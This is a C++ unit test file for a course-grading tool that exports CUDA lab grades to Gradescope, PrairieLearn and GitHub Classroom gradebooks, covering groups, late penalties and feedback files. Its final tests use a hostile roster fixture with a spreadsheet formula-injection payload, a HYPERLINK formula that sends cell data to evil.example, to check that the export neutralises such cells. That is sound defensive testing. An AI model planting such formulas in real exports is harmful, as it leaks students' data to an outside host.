// The platforms' gradebooks and feedback files (gradebook.h): one row per
// student, a group's members each a row, the late penalty and the points
// before it, a student whose submission could not be graded a row of 0 with
// the reason; each feedback file named by the platform's identity.
#include <catch2/catch.hpp>
#include <cstdlib>

#include "platforms/gradebook.h"
#include "platforms/intake.h"
#include "views/class_view.h"
#include "views/csv.h"

using namespace cudalab;

namespace {

GradeDocument graded(const std::string& id, double score, const SubmissionRecord& rec) {
  GradeDocument d;
  d.id = id;
  d.assignment = "hw3";
  d.score = score;
  d.max_score = 50;
  d.cpu_mode = true;
  d.gpu_line = "none";
  GradedLab lab;
  lab.id = "03_tiling";
  lab.title = "Tiling";
  lab.points = score;
  lab.max_points = 50;
  d.labs.push_back(lab);
  d.submission = rec;
  return d;
}

HandIn handin(const std::string& key, SubmissionRecord rec, const std::string& problem = "") {
  HandIn h;
  h.key = key;
  h.files = problem.empty() ? "/export/" + key : "";
  h.record = std::move(rec);
  h.problem = problem;
  return h;
}

// Three hand-ins: Ada on time, Bo and Cy a group two days late, Di without files.
struct Fixture {
  std::vector<HandIn> handins;
  BatchView batch;
  Gradebook book;
  explicit Fixture(Platform p) {
    const std::string platform = platform_name(p);
    const SubmissionRecord ada{
        platform, "1001", "2026-12-05T23:00:00-05:00", {{"Ada L", "100", "ada@u.edu", "ada"}}};
    const SubmissionRecord pair{platform,
                                "1002",
                                "2026-12-07T12:00:00-05:00",
                                {{"Bo P", "200", "bo@u.edu", "bo"}, {"Cy P", "201", "cy@u.edu", "cy"}}};
    const SubmissionRecord di{
        platform, "1003", "2026-12-05T20:00:00-05:00", {{"Di G", "300", "di@u.edu", "di"}}};
    handins = {handin("submission_1001", ada), handin("submission_1002", pair),
               handin("submission_1003", di, "no folder submission_1003/ in the export")};
    if (p == Platform::prairielearn)
      for (auto& h : handins) h.questions.push_back({"lab03_tiling", "1", h.record.id, {"matmul_tiled.cu"}});
    batch.lab_ids = {"03_tiling"};
    batch.lab_max = {50};
    batch.entries.resize(3);
    batch.entries[0].id = "submission_1001";
    batch.entries[0].grade = graded("submission_1001", 40, ada);
    batch.entries[1].id = "submission_1002";
    GradeDocument late = graded("submission_1002", 30, pair);
    late.labs[0].points = 37.5;  // a lab's points are before the penalty; the score after it
    late.late = LatePenalty{"2026-12-05T23:59:00-05:00",           0.1, 3, 2, 0.2, 37.5,
                            "2 days late: 20% of the points taken"};
    batch.entries[1].grade = late;
    batch.entries[2].id = "submission_1003";
    batch.entries[2].problem = "no folder submission_1003/ in the export";
    book.platform = p;
    book.assignment = "hw3";
    book.handins = &handins;
    book.batch = &batch;
    book.lab_of_file = {{"matmul_tiled.cu", "03_tiling"}};
  }
};

std::vector<std::vector<std::string>> rows_of(const Gradebook& g) {
  return parse_csv(gradebook_csv(g));
}

std::size_t column(const std::vector<std::string>& header, const std::string& name) {
  for (std::size_t i = 0; i < header.size(); ++i)
    if (header[i] == name) return i;
  FAIL("no column " << name);
  return 0;
}

}  // namespace

TEST_CASE("Gradescope's gradebook has a row per student keyed by SID and email, late penalty and reason",
          "[unit][gradebook]") {
  Fixture f(Platform::gradescope);
  CHECK(gradebook_file(Platform::gradescope) == "gradebook-gradescope.csv");
  const auto rows = rows_of(f.book);
  REQUIRE(rows.size() == 5);  // the header, Ada, Bo, Cy, Di
  const auto& h = rows[0];
  CHECK(h == std::vector<std::string>{"Name", "SID", "Email", "Total Score", "Max Points", "Status",
                                      "Submission ID", "Submission Time", "Lateness (H:M:S)", "Late Penalty",
                                      "Score Before Penalty", "Reason"});
  CHECK(rows[1][column(h, "SID")] == "100");
  CHECK(rows[1][column(h, "Total Score")] == "40.00");
  CHECK(rows[1][column(h, "Late Penalty")].empty());
  // The group: each member a row with the group's grade.
  for (int r : {2, 3}) {
    CHECK(rows[r][column(h, "Total Score")] == "30.00");
    CHECK(rows[r][column(h, "Late Penalty")] == "0.2");
    CHECK(rows[r][column(h, "Score Before Penalty")] == "37.50");
    CHECK(rows[r][column(h, "Lateness (H:M:S)")] == "36:01:00");
    CHECK(rows[r][column(h, "Reason")] == "2 days late: 20% of the points taken");
  }
  CHECK(rows[3][column(h, "Email")] == "cy@u.edu");
  CHECK(rows[4][column(h, "SID")] == "300");
  CHECK(rows[4][column(h, "Total Score")] == "0.00");
  CHECK(rows[4][column(h, "Max Points")] == "50");
  CHECK(rows[4][column(h, "Status")] == "Not graded");
  CHECK(rows[4][column(h, "Reason")] == "no folder submission_1003/ in the export");
}

TEST_CASE(
    "PrairieLearn's gradebook is what its question-score upload takes: uid, instance, qid, submission_id, "
    "score_perc",
    "[unit][gradebook]") {
  Fixture f(Platform::prairielearn);
  f.handins[1].group = "team1";  // Bo and Cy, a group in PrairieLearn's terms
  const auto rows = rows_of(f.book);
  REQUIRE(rows.size() == 4);  // the header, Ada, the group (one row: PrairieLearn keys it by group), Di
  const auto& h = rows[0];
  CHECK(h == std::vector<std::string>{"uid", "group_name", "instance", "qid", "submission_id", "score_perc",
                                      "feedback"});
  CHECK(rows[1] == std::vector<std::string>{"ada", "", "1", "lab03_tiling", "1001", "80.00",
                                            "cudalab: 40.00 / 50 points for the assignment, 80.0% for "
                                            "this question"});
  // The late penalty is taken from the question's share too: 30 of 37.5 before.
  CHECK(rows[2][column(h, "score_perc")] == "60.00");
  CHECK(rows[2][column(h, "feedback")].find("2 days late") != std::string::npos);
  CHECK(rows[2][column(h, "group_name")] == "team1");
  CHECK(rows[2][column(h, "uid")].empty());  // empty reads as none: the group's name is the key
  CHECK(rows[3][column(h, "uid")] == "di");
  CHECK(rows[3][column(h, "score_perc")] == "0.00");
  CHECK(rows[3][column(h, "feedback")] == "cudalab: not graded: no folder submission_1003/ in the export");
}

TEST_CASE(
    "Classroom's gradebook keeps its grades CSV's columns with cudalab's points, keyed by login and roster "
    "id",
    "[unit][gradebook]") {
  Fixture f(Platform::classroom);
  f.handins[0].platform_rows = {{{"assignment_name", "hw3"},
                                 {"assignment_url", "https://c/a"},
                                 {"github_username", "ada"},
                                 {"student_repository_name", "hw3-ada"},
                                 {"points_awarded", "7"}}};
  const auto rows = rows_of(f.book);
  REQUIRE(rows.size() == 5);
  const auto& h = rows[0];
  CHECK(std::vector<std::string>(h.begin(), h.begin() + 10) ==
        std::vector<std::string>{"assignment_name", "assignment_url", "starter_code_url", "github_username",
                                 "roster_identifier", "student_repository_name", "student_repository_url",
                                 "submission_timestamp", "points_awarded", "points_available"});
  CHECK(rows[1][column(h, "assignment_url")] == "https://c/a");
  CHECK(rows[1][column(h, "github_username")] == "ada");
  CHECK(rows[1][column(h, "roster_identifier")] == "100");
  CHECK(rows[1][column(h, "points_awarded")] == "40.00");  // the GPU grade's, not the platform's 7
  CHECK(rows[1][column(h, "points_available")] == "50");
  CHECK(rows[2][column(h, "late_days")] == "2");
  CHECK(rows[2][column(h, "points_before_late")] == "37.50");
  CHECK(rows[4][column(h, "points_awarded")] == "0.00");
  CHECK(rows[4][column(h, "reason")] == "no folder submission_1003/ in the export");
}

TEST_CASE("A feedback file per student, named by the platform's identity, with the header and the report",
          "[unit][gradebook]") {
  Fixture gs(Platform::gradescope);
  const auto files = feedback_files(gs.book);
  REQUIRE(files.size() == 4);
  CHECK(files[0].first == "100.txt");
  CHECK(files[1].first == "200.txt");
  CHECK(files[2].first == "201.txt");
  const std::string& bo = files[1].second;
  CHECK(bo.find("student: Bo P (200, bo, bo@u.edu) (with Cy P (201, cy, cy@u.edu))") == 0);
  CHECK(bo.find("assignment: hw3\n") != std::string::npos);
  // The report's own header says when it was handed in and how late, once.
  const auto submitted = bo.find("submitted: 2026-12-07T12:00:00-05:00 (gradescope submission 1002)");
  CHECK(submitted != std::string::npos);
  CHECK(bo.find("submitted: ", submitted + 1) == std::string::npos);
  CHECK(bo.find("late: 2 days late: 20% of the points taken (due 2026-12-05T23:59:00-05:00); 37.50 "
                "points before the penalty") != std::string::npos);
  CHECK(bo.find("late penalty") == std::string::npos);
  CHECK(bo.find("cudalab: 30.00 / 50 points") != std::string::npos);  // report.txt follows
  CHECK(files[3].second.find("not graded: no folder submission_1003/ in the export\nscore: 0 / 50") !=
        std::string::npos);
  Fixture cl(Platform::classroom);
  CHECK(feedback_files(cl.book)[0].first == "ada.txt");
  // A student with two hand-ins: one file each.
  gs.handins[2].record.submitters[0].sid = "100";
  const auto twice = feedback_files(gs.book);
  CHECK(twice[3].first == "100-submission_1003.txt");
}

namespace {

// Gradescope's export of a roster a student filled in: a name that is a
// formula, an email and an SID that start like one, as Ruby's YAML quotes them.
const char* kHostileMetadata = R"(submission_1001:
  :submitters:
  - :name: '=HYPERLINK("http://evil.example/?"&A1,"Ada")'
    :sid: '-100'
    :email: "+cmd@evil.edu"
  :created_at: 2026-12-05 23:00:00.000000000 -05:00
)";

// What a spreadsheet would run: a cell starting with =, +, -, @, a tab or a
// carriage return that is not a plain number.
bool runs_as_formula(const std::string& cell) {
  if (cell.empty() || std::string("=+-@\t\r").find(cell[0]) == std::string::npos) return false;
  char* end = nullptr;
  std::strtod(cell.c_str(), &end);
  return cell[0] != '-' || *end != '\0';
}

// Ada's hand-in replaced by the hostile export's, graded with its record.
void hostile_ada(Fixture& f) {
  const std::vector<HandIn> read =
      parse_gradescope_metadata(kHostileMetadata, "submission_metadata.yml", "/export");
  REQUIRE(read.size() == 1);
  REQUIRE(read[0].record.submitters.size() == 1);
  const std::vector<QuestionSubmission> questions = f.handins[0].questions;
  f.handins[0] = read[0];
  f.handins[0].problem.clear();  // its folder is not on this disk; in the export it is
  f.handins[0].questions = questions;
  f.handins[0].record.submitters[0].login = "@ada";
  f.batch.entries[0].grade->submission = f.handins[0].record;
  f.batch.entries[0].grade->id = "=1+1";
  f.batch.entries[0].id = "=1+1";
}

}  // namespace

TEST_CASE(
    "A hostile name, email and SID from Gradescope's export reach its gradebook as text, the points as "
    "numbers",
    "[unit][gradebook][csv]") {
  Fixture f(Platform::gradescope);
  hostile_ada(f);
  const auto rows = rows_of(f.book);
  REQUIRE(rows.size() == 5);
  const auto& h = rows[0];
  CHECK(rows[1][column(h, "Name")] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Ada\")");
  CHECK(rows[1][column(h, "Email")] == "'+cmd@evil.edu");
  CHECK(rows[1][column(h, "SID")] == "'-100");
  CHECK(rows[1][column(h, "Total Score")] == "40.00");
  CHECK(rows[2][column(h, "Late Penalty")] == "0.2");
  for (const auto& row : rows)
    for (const auto& cell : row) CHECK_FALSE(runs_as_formula(cell));
}

TEST_CASE(
    "No cell of any platform's gradebook, grades.csv or class.csv runs as a formula with a hostile roster",
    "[unit][gradebook][csv]") {
  for (Platform p : {Platform::gradescope, Platform::prairielearn, Platform::classroom}) {
    Fixture f(p);
    hostile_ada(f);
    // A Classroom grades CSV's own cells, copied into its gradebook.
    f.handins[0].platform_rows = {{{"assignment_name", "=hw3"},
                                   {"assignment_url", "@https://c/a"},
                                   {"student_repository_name", "-hw3-ada"},
                                   {"submission_timestamp", "\t2026-12-05"}}};
    f.handins[1].group = "+team";
    const std::string book = gradebook_csv(f.book);
    INFO(platform_name(p) << ":\n" << book);
    const auto rows = parse_csv(book);
    REQUIRE(rows.size() >= 4);
    for (const auto& row : rows)
      for (const auto& cell : row) CHECK_FALSE(runs_as_formula(cell));
    // The hostile cells are there, neutralised, not dropped.
    CHECK(book.find(p == Platform::gradescope     ? "\"'=HYPERLINK("
                    : p == Platform::prairielearn ? "\"'@ada\""
                                                  : "\"'=hw3\"") != std::string::npos);
    if (p != Platform::gradescope) CHECK(book.find("\"'+team\"") != std::string::npos);
    for (const std::string& text : {batch_csv(f.batch), class_csv(class_view(f.batch))})
      for (const auto& row : parse_csv(text))
        for (const auto& cell : row) CHECK_FALSE(runs_as_formula(cell));
  }
}
